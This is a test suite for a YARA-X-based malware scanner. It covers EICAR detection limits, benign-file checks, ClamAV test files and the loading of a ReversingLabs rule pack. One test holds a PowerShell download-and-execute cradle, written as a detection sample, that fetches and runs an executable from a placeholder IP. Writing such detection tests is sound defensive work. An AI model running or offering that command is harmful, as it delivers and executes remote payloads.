import tap from 'tap'
import { readFileSync, readdirSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'
import { TEST_HOOKS } from '../../src/scan/worker-protocol.ts'
import { createYaraEngine } from '../../src/scan/yara-engine.ts'
import { YARA_X_VERSION } from '../../src/scan/yara-rules.ts'
import { engineCompliance } from './engine-compliance.ts'
import { CLAMAV_TESTFILES, PROJECT_RULES, REVERSINGLABS_RULES, SLOW_RULE, SLOW_SAMPLE, eicar, input, noClamavTestfiles, silentLogger } from './yara-helpers.ts'

tap.test('YARA passes the engine compliance test', async t => {
  const dir = t.testdir({ rules: { 'eicar.yar': readFileSync(join(PROJECT_RULES, 'virusmap/eicar.yar'), 'utf8'), 'slow.yar': SLOW_RULE } })
  engineCompliance(t, {
    create: () => createYaraEngine({ rulesDirs: [PROJECT_RULES], timeoutMs: 30_000, logger: silentLogger }),
    detected: input(eicar()),
    clean: input('just some text\n'),
    misbehaving: {
      create: () => createYaraEngine({ rulesDirs: [`${dir}/rules`], timeoutMs: 1500, logger: silentLogger, testHooks: true }),
      slow: input(SLOW_SAMPLE),
      crash: input(TEST_HOOKS.crash)
    }
  })
})

tap.test('project rules', async t => {
  const engine = createYaraEngine({ rulesDirs: [PROJECT_RULES], timeoutMs: 30_000, logger: silentLogger })
  await engine.start()
  t.teardown(async () => { await engine.stop() })

  t.test('identity', async st => {
    st.equal(engine.name, 'YARA', 'the name verdicts and on-chain engine lists carry is unchanged')
    st.equal(engine.version, `yara-x ${YARA_X_VERSION}`)
    st.match(engine.signatureDate, /^20\d{6}$/)
    st.same(engine.kinds, ['file'])
    st.equal(engine.ruleStats?.skippedFiles.length, 0)
    st.ok((engine.ruleStats?.rules ?? 0) >= 8)
    st.equal(engine.scannerPids.length, 2, 'two warm scanner processes by default')
  })

  t.test('EICAR: exact string, trailing whitespace allowed, nothing else', async st => {
    const hit = await engine.scan(input(eicar()))
    st.same(hit, { engine: 'YARA', engineVersion: engine.version, engineUpdate: engine.signatureDate, category: 'malicious', result: 'EICAR_Test_File', method: 'blacklist' })
    st.equal((await engine.scan(input(eicar() + ' \t\r\n\x1a'))).result, 'EICAR_Test_File', 'standard trailing whitespace')
    st.equal((await engine.scan(input(eicar() + ' '.repeat(60)))).category, 'malicious', '128 bytes in all')
    st.equal((await engine.scan(input(eicar() + ' '.repeat(61)))).category, 'undetected', '129 bytes is over the limit')
    st.equal((await engine.scan(input(eicar() + 'abc'))).category, 'undetected', 'trailing non-whitespace')
    st.equal((await engine.scan(input('X' + eicar()))).category, 'undetected', 'not at offset 0')
    st.equal((await engine.scan(input(eicar().slice(0, 67)))).category, 'undetected', 'one byte short')
  })

  t.test('benign bytes are undetected', async st => {
    for (const bytes of [new Uint8Array(), Buffer.from('hello world\n'), readFileSync('/bin/ls'), new Uint8Array(1 << 20)]) {
      const r = await engine.scan(input(bytes))
      st.equal(r.category, 'undetected')
      st.equal(r.result, '')
    }
  })

  t.test('a sample inside a larger buffer is scanned as itself', async st => {
    const backing = Buffer.from(`padding ${eicar()} padding`)
    const view = new Uint8Array(backing.buffer, backing.byteOffset + 8, eicar().length)
    st.equal((await engine.scan(input(view))).result, 'EICAR_Test_File', 'only the view is sent, not its whole ArrayBuffer')
  })

  t.test('PowerShell download cradle is suspicious', async st => {
    const script = 'powershell -nop -c "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.9/a.exe\',\'a.exe\'); Start-Process a.exe"\r\n'
    st.same(await engine.scan(input(script)), { ...await engine.scan(input('')), category: 'suspicious', result: 'PowerShell_Download_Execute_Cradle' })
    st.equal((await engine.scan(input('powershell Get-ChildItem\n'))).category, 'undetected', 'PowerShell alone is fine')
  })

  t.test('every ClamAV test file is detected', { skip: noClamavTestfiles }, async st => {
    const files = readdirSync(CLAMAV_TESTFILES).toSorted()
    st.ok(files.length >= 40, `${files.length} test files`)
    const results = await Promise.all(files.map(async name => await engine.scan(input(readFileSync(join(CLAMAV_TESTFILES, name))))))
    files.forEach((name, i) => {
      st.equal(results[i]?.category, 'malicious', name)
      st.match(results[i]?.result, /^ClamAV_TestFile_/, `${name} -> ${results[i]?.result}`)
    })
  })
})

tap.test('the ReversingLabs pack loads next to the project rules', async t => {
  const engine = createYaraEngine({ rulesDirs: [PROJECT_RULES, REVERSINGLABS_RULES], timeoutMs: 30_000, concurrency: 1, logger: silentLogger })
  await engine.start()
  t.teardown(async () => { await engine.stop() })
  const stats = engine.ruleStats
  const skippedRules = stats?.skippedFiles.reduce((n, f) => n + f.rules, 0) ?? 0
  t.comment(`compiled ${stats?.files} files / ${stats?.rules} rules; skipped ${stats?.skippedFiles.length} files / ${skippedRules} rules`)
  for (const s of stats?.skippedFiles ?? []) t.comment(`skipped ${s.path}: ${s.error}`)
  t.ok((stats?.files ?? 0) >= 277, 'the 274 ReversingLabs files plus ours compile with YARA-X')
  t.equal((await engine.scan(input(eicar()))).result, 'EICAR_Test_File', 'project rules come first')
  t.equal((await engine.scan(input(readFileSync('/bin/ls')))).category, 'undetected')
})

tap.test('YARA_X_VERSION names the YARA-X inside the installed binding', { skip: process.platform !== 'linux' || process.arch !== 'x64' }, async t => {
  const require = createRequire(import.meta.url)
  const binary = readFileSync(join(dirname(require.resolve('@litko/yara-x-linux-x64-gnu/package.json')), 'yara-x.linux-x64-gnu.node')).toString('latin1')
  const versions = new Set([...binary.matchAll(/yara-x-(\d+\.\d+\.\d+)/g)].map(m => m[1]))
  t.same([...versions], [YARA_X_VERSION], 'a binding upgrade must update YARA_X_VERSION: verdicts carry it')
})
